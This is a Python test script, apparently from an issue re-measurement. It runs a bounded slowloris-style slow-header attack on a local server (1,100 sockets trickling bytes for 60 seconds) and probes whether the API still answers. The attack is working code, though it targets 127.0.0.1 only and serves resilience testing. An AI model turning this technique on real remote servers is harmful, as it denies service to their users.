"""Issue 28 row 6, re-measured on 127.0.0.1: 1,100 connections trickle request heads a byte every
5 s (reconnecting when cut off) for 60 s, while 15 probes (GET /api/games, 10 s timeout) are sent
4 s apart. Bounded: 60 s, 1,100 sockets."""
import socket, sys, threading, time, urllib.request
port = int(sys.argv[1]); RECONNECT = len(sys.argv) > 2 and sys.argv[2] == 'reconnect'; ATTACKERS = 1100; SECONDS = 60
def connect():
    s = socket.socket(); s.settimeout(2)
    try:
        s.connect(("127.0.0.1", port)); s.send(b"GET /api/games HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "); return s
    except OSError:
        s.close(); return None
socks = [connect() for _ in range(ATTACKERS)]
stop = time.time() + SECONDS; cut = 0
def trickle():
    global cut
    while time.time() < stop:
        time.sleep(5)
        for i, s in enumerate(socks):
            try:
                if s is None: raise OSError
                s.send(b"a")
            except OSError:
                if s:
                    cut += 1
                    s.close()
                socks[i] = connect() if RECONNECT else None
threading.Thread(target=trickle, daemon=True).start()
answered = []
for i in range(15):
    t = time.time()
    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/api/games", timeout=10) as r:
            answered.append((r.status, round(time.time() - t, 2)))
    except Exception as e:
        answered.append((type(e).__name__, round(time.time() - t, 2)))
    time.sleep(max(0, 4 - (time.time() - t)))
ok = [a for a in answered if a[0] == 200]
print(f"{sum(1 for s in socks if s is not None)} attackers connected at the end; {len(ok)} of 15 probes answered 200; seconds: {[a[1] for a in answered]}; attacker connections cut off (and reopened): {cut}")
for s in socks:
    if s: s.close()
